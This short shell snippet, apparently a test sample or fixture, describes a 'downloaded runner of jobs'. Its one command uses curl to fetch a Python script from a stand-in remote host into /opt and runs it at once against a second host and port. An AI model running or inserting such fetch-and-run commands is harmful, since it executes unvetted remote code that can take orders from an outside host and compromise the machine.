# a downloaded runner of jobs with a protocol of its own around what is run
#http 203.0.113.72:8090
#pool 203.0.113.87:8443:push
curl -so /opt/runner.py http://203.0.113.72:8090/runner.py; timeout 9 python3 /opt/runner.py 203.0.113.87 8443
